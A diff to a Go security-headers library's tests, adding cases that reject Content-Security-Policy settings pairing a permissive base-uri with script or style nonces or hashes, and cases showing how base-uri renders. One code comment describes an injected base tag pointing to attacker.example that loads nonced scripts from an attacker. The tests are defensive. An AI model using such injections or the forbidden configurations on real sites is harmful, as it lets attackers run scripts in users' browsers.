@@ -217,6 +217,13 @@ func TestNewRejectsInvalidOptions(t *testing.T) {
 		{"plugins from any host under a path", headers.Options{CSP: &headers.CSP{DefaultSrc: []string{headers.Self}, ObjectSrc: []string{"https://*/"}}}, headers.ErrUnsafeSource},
 		{"scripts from data URLs", headers.Options{CSP: &headers.CSP{ScriptSrc: []string{"data:"}}}, headers.ErrUnsafeSource},
 		{"plugins from anywhere", headers.Options{CSP: &headers.CSP{DefaultSrc: []string{headers.Self}, ObjectSrc: []string{"*"}}}, headers.ErrUnsafeSource},
+		// base-uri does not fall back to default-src: with a nonce, an
+		// injected <base href="https://attacker.example/"> that it allows
+		// loads the page's relative nonced scripts from the attacker.
+		{"any base URI with a script nonce", headers.Options{CSP: &headers.CSP{DefaultSrc: []string{headers.None}, ScriptNonce: true, BaseURI: []string{"*"}}}, headers.ErrUnsafeSource},
+		{"an https: base URI with a style nonce", headers.Options{CSP: &headers.CSP{DefaultSrc: []string{headers.None}, StyleNonce: true, BaseURI: []string{"https:"}}}, headers.ErrUnsafeSource},
+		{"a base URI of a hosting service with a script hash", headers.Options{CSP: &headers.CSP{ScriptSrc: []string{"'sha256-" + strings.Repeat("A", 43) + "='"}, BaseURI: []string{"https://*.github.io"}}}, headers.ErrUnsafeSource},
+		{"any base URI in the report-only policy with a nonce", headers.Options{CSPReportOnly: &headers.CSP{DefaultSrc: []string{headers.None}, ScriptNonce: true, BaseURI: []string{"*"}}}, headers.ErrUnsafeSource},
 		{"images over http", headers.Options{CSP: &headers.CSP{ImgSrc: []string{"http://cdn.example"}}}, headers.ErrUnsafeSource},
 		{"none with other sources", headers.Options{CSP: &headers.CSP{DefaultSrc: []string{headers.None, headers.Self}}}, headers.ErrPolicy},
 		{"strict-dynamic without a nonce", headers.Options{CSP: &headers.CSP{ScriptSrc: []string{headers.Self}, StrictDynamic: true}}, headers.ErrPolicy},
@@ -322,6 +329,12 @@ func TestCSPRendering(t *testing.T) {
 		{"a policy without nonce or hash gets no base-uri",
 			headers.CSP{DefaultSrc: []string{headers.Self}},
 			"default-src 'self'"},
+		{"a policy without nonce or hash may allow any base URI: its scripts need a host source",
+			headers.CSP{DefaultSrc: []string{headers.Self}, BaseURI: []string{"*"}},
+			"default-src 'self'; base-uri *"},
+		{"a nonce policy allows any base URI with DangerouslyAllowUnsafe",
+			headers.CSP{DefaultSrc: []string{headers.None}, ScriptSrc: []string{hash}, BaseURI: []string{"https:"}, DangerouslyAllowUnsafe: true},
+			"default-src 'none'; script-src " + hash + "; base-uri https:"},
 		{"boolean directives follow the source lists",
 			headers.CSP{DefaultSrc: []string{headers.None}, Sandbox: true, SandboxAllow: []string{"allow-scripts"}, UpgradeInsecureRequests: true, RequireTrustedTypes: true},
 			"default-src 'none'; sandbox allow-scripts; upgrade-insecure-requests; require-trusted-types-for 'script'"},
